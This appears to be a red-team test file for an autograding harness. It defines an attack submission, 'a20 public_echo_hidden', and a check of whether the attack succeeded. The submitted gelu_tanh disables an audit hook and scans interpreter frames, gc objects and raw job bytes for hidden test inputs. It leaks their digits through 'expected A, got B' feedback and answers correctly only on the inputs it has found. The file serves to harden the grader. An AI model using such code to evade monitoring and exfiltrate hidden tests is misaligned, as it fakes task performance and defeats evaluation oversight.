"""a20 public_echo_hidden.

Route: a failing PUBLIC example's feedback shows its first difference, "expected A, got B": B is
the learner's own answer value. At public example 1 the learner's gelu_tanh (after disarming the
in-process audit hook, as in a19) walks the interpreter's frames and gc containers for float
arrays that are not its own input: the exercise's other cases, hidden ones included, if the
harness holds them all before the first call. It answers public example 1 with the right answer
times F = 31337 + (a hidden input's first value mod 1): the first difference "expected A, got
A*F" and any "off by a constant factor F" mistake name carry hidden digits. On later calls it answers correctly exactly when the input is
one it had found at public example 1, so hidden points confirm the arrays were hidden inputs.
Goal (1)/(2): hidden test inputs reaching the learner's feedback.
Breached: a got/expected ratio (or a named factor) in [31337, 31338) appears in an output AND
gelu_tanh scores hidden points (the arrays found at public example 1 were the hidden inputs).
"""
import pathlib
import re
from _common import write_nb, LESSON_FILES, GOOD, verdicts, all_text
from a19_hook_bypass_syscalls import BYPASS

CELL = BYPASS + GOOD["gelu_tanh"].replace("def gelu_tanh", "def _g") + '''
_found = []
_calls = []
def _scan(x):
    import gc
    seen, out = set(), []
    def add(a):
        if isinstance(a, np.ndarray) and a.dtype.kind == "f" and a.size and id(a) not in seen:
            seen.add(id(a))
            if not (a.shape == x.shape and np.array_equal(a, x)):
                out.append(np.array(a, copy=True))
    blobs = []
    def walk(v, depth):
        if depth > 5:
            return
        if isinstance(v, np.ndarray):
            add(v)
        elif isinstance(v, (bytes, bytearray, memoryview)) and len(v) >= 64:
            blobs.append(bytes(v[:1 << 26]))
        elif type(v).__name__ == "mmap":
            try:
                blobs.append(bytes(v[:1 << 26]))
            except BaseException:
                pass
        elif isinstance(v, dict):
            for w in list(v.values())[:5000]:
                walk(w, depth + 1)
        elif isinstance(v, (list, tuple)):
            for w in list(v)[:5000]:
                walk(w, depth + 1)
        elif hasattr(v, "__dict__") and not isinstance(v, type) and depth < 4:
            try:
                walk(vars(v), depth + 1)
            except TypeError:
                pass
    try:
        f = _sys._getframe(1)
        while f is not None:
            walk(dict(f.f_locals), 0)
            f = f.f_back
    except BaseException:
        pass
    try:
        for o in gc.get_objects():
            if isinstance(o, (list, tuple, dict)):
                walk(o, 3)
    except BaseException:
        pass
    # raw job bytes (frames: u32 header length, JSON header, u64 blob length, blob), if the
    # harness keeps them undecoded: every {"bin": [name, offset, dtype, shape]} becomes an array
    import json as _j
    for b in blobs[:50]:
        pos = 0
        try:
            while pos + 4 <= len(b):
                n = int.from_bytes(b[pos:pos + 4], "big")
                hdr = _j.loads(b[pos + 4:pos + 4 + n])
                m = int.from_bytes(b[pos + 4 + n:pos + 12 + n], "big")
                data = b[pos + 12 + n:pos + 12 + n + m]
                def bins(h):
                    if isinstance(h, dict):
                        if "bin" in h and isinstance(h["bin"], list) and len(h["bin"]) == 4:
                            yield h["bin"]
                        for w in h.values():
                            yield from bins(w)
                    elif isinstance(h, list):
                        for w in h:
                            yield from bins(w)
                for _, off, dt, shp in bins(hdr):
                    cnt = int(np.prod(shp)) if shp else 1
                    add(np.frombuffer(data, dtype=dt, count=cnt, offset=off).reshape(shp))
                pos += 12 + n + m
        except BaseException:
            pass
    return out
def gelu_tanh(x):
    _calls.append(1)
    if len(_calls) == 1:
        try:
            _unhook()
        except BaseException:
            pass
        _found.extend(_scan(x))
        y = _g(x)
        if _found:
            big = max(_found, key=lambda a: a.size)
            f = 31337.0 + float(abs(big.ravel()[0]) % 1.0)
        else:
            f = 27183.0
        return (y * f).astype(x.dtype)
    if any(a.shape == x.shape and np.array_equal(a, x) for a in _found):
        return _g(x)
    return np.zeros_like(x)
'''


def build(tmp: pathlib.Path) -> list[str]:
    write_nb(tmp / "eve" / LESSON_FILES["03_mlp_block"], "03_mlp_block", [CELL])
    return [str(tmp / "eve"), "--lessons", "03_mlp_block"]


def verdict(out: pathlib.Path, run: dict) -> tuple[bool, str]:
    text = all_text(out)
    num = r"(-?\d+(?:\.\d+)?(?:e[-+]?\d+)?)"
    ratios = []
    for a, b in re.findall(r"expected " + num + r", got " + num, text):
        try:
            if float(a) != 0:
                ratios.append(float(b) / float(a))
        except ValueError:
            pass
    ratios += [float(f) for f in re.findall(r"factor " + num, text)]
    hits = [r for r in ratios if 31337 <= r < 31338]
    v = verdicts(out, "eve").get("gelu_tanh", {})
    pts = v.get("points") or 0
    if hits and pts > 0:
        return True, f"hidden input digits shown in feedback: factor {hits[0]:.6f}; hidden points {pts} confirm"
    return False, f"ratios {[round(r, 3) for r in ratios[:3]]}, gelu_tanh hidden points {pts}"
